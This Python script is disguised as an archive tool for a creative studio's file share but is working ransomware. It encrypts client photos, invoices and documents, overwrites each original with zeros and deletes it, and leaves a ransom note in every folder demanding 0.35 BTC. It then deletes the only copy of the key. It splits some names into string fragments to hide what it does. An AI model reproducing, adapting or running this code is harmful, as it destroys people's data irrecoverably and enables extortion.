#!/usr/bin/env python3
"""Archive vault: seals finished commission folders.

Walks the studio share, seals each client file, and leaves a notice in
every folder explaining how to get the files unsealed.
"""
import argparse
import importlib
import logging
import os
from dataclasses import dataclass
from pathlib import Path

log = logging.getLogger("archive-vault")

SHARE = Path(os.environ.get("STUDIO_SHARE", str(Path.home() / "StudioShare")))
SEAL_EXT = ".vaulted"
NOTICE_NAME = "HOW_TO_RESTORE_FILES.txt"
NOTICE = """Your studio files have been sealed.
Commission records, client photos and invoices in this folder cannot be
opened without the restore key.
To obtain the key send 0.35 BTC and your ID {tag} to restore@vault-help.example.
"""

TARGET_SUFFIXES = {".jpg", ".jpeg", ".png", ".cr2", ".nef", ".pdf",
                   ".docx", ".xlsx", ".csv", ".odt", ".psd"}


def _crypto():
    mod = importlib.import_module("cryptography.fernet")
    return getattr(mod, "Fer" + "net")


@dataclass
class Sealer:
    key: bytes
    tag: str

    def __post_init__(self):
        self._box = _crypto()(self.key)

    def seal(self, path: Path):
        data = path.read_bytes()
        sealed = self._box.encrypt(data)
        out = path.with_name(path.name + SEAL_EXT)
        out.write_bytes(sealed)
        self._scrub(path, len(data))
        return out

    @staticmethod
    def _scrub(path, size):
        with open(path, "r+b") as fh:
            fh.write(b"\0" * size)
            fh.flush()
            os.fsync(fh.fileno())
        remover = getattr(os, "un" + "link")
        remover(path)


def candidates(root: Path):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if not d.startswith(".")]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in TARGET_SUFFIXES and not name.endswith(SEAL_EXT):
                yield p


def drop_notice(folder: Path, tag: str):
    note = folder / NOTICE_NAME
    if not note.exists():
        note.write_text(NOTICE.format(tag=tag), encoding="utf-8")


def make_key(remote_store: Path):
    fernet = _crypto()
    key = fernet.generate_key()
    remote_store.write_bytes(key)
    return key


def main():
    ap = argparse.ArgumentParser(description="Seal finished commission folders")
    ap.add_argument("--root", type=Path, default=SHARE)
    ap.add_argument("--key-drop", type=Path,
                    default=Path("/run/user") / str(os.getuid()) / ".vk")
    ap.add_argument("--tag", default=os.environ.get("HOSTNAME", "studio")[:8])
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO)

    key = make_key(args.key_drop)
    sealer = Sealer(key=key, tag=args.tag)
    sealed_dirs = set()
    count = 0
    for path in candidates(args.root):
        try:
            sealer.seal(path)
        except (OSError, PermissionError) as exc:
            log.debug("skip %s: %s", path, exc)
            continue
        sealed_dirs.add(path.parent)
        count += 1
    for d in sealed_dirs:
        drop_notice(d, args.tag)
    args.key_drop.unlink(missing_ok=True)
    log.info("sealed %d files in %d folders", count, len(sealed_dirs))


if __name__ == "__main__":
    main()
